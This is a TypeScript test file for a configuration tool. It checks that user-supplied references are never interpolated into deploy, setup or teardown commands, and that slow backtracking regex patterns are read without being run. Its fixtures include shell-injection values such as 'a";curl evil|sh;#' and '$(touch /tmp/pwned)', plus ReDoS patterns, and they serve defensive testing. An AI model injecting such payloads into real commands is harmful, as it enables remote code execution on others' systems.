// A7 and A8: a text of the user's is neither pasted into a command line nor run as a pattern while planning.
import { describe, expect, it } from "vitest";
import { made, TOP } from "./made.ts";
import { opened, told } from "./told.ts";

const PROBES = "probes: [{ name: a, http: / }]\n";
const COMMANDS: Readonly<Record<string, (command: string) => string>> = {
  deploy: (command) => `${TOP}deploy: ${command}\n`,
  "deploy[0].run": (command) => `${TOP}deploy: [{ name: a, run: ${command} }]\n`,
  "suites[0].run": (command) => `${TOP}suites: [{ name: a, reports: a.xml, run: ${command} }]\n`,
  setup: (command) => `${TOP}${PROBES}setup: ${command}\n`,
  "setup.run": (command) => `${TOP}${PROBES}setup: { run: ${command} }\n`,
  teardown: (command) => `${TOP}${PROBES}teardown: ${command}\n`,
  "teardown.run": (command) => `${TOP}${PROBES}teardown: { run: ${command} }\n`,
};

describe.each(Object.entries(COMMANDS))("A7: the command %s", (what, file) => {
  it.each([
    "${env.BRANCH}",
    "${secrets.KEY}",
    "${user.id}",
    "${capture.id}",
    "${{ github.head_ref }}",
    "${{ github.event.pull_request.title }}",
  ])("gets no %s", (reference) => {
    const lines = told({
      file: file(JSON.stringify(`echo "${reference}"`)),
      environment: { BRANCH: 'a";curl evil|sh;#', KEY: "$(touch /tmp/pwned)" },
    });
    expect(lines).toEqual([
      expect.stringContaining(`${what}: a command is run as it is, without references, got ${reference}.`),
    ]);
    expect(lines.join("")).not.toMatch(/curl|pwned/u);
  });

  it.each(["$HOME ${TAG:-latest} $(git rev-parse HEAD) `date`", "a && b || c; d > e", "'${x}' \"$y\""])(
    "is left as it is: %s",
    (command) => {
      expect(JSON.stringify(opened(made(file(JSON.stringify(command)))))).toContain(
        JSON.stringify(command).slice(1, -1),
      );
    },
  );
});

describe("A8: a pattern that takes long", () => {
  it.each(["(a+)+$", "(\\w+\\s?)*:", "/.*Error.*timeout.*/", "(.*a){20}", "(x+x+)+y", "([a-z]+)*[0-9]"])(
    "is read and not run: %s",
    (pattern) => {
      const words = JSON.stringify({ matches: pattern });
      const schema = JSON.stringify({ pattern, patternProperties: { [pattern]: true } });
      const event = `{ e: { match: { $.a: ${words} } } }`;
      const file = `${TOP}probes:
  - { name: a, http: { url: /, expect: { body: ${words}, json: { $.a: ${words} }, headers: { x: ${words} }, schema: ${schema} } } }
  - { name: b, websocket: { url: /, every: { $.a: ${words} }, expect: [${event}] } }
  - { name: ${JSON.stringify("a".repeat(199))}, http: / }
`;
      const started = process.threadCpuUsage();
      expect(told({ file })).toEqual([]);
      expect(process.threadCpuUsage(started).user / 1_000).toBeLessThan(300);
    },
  );
});
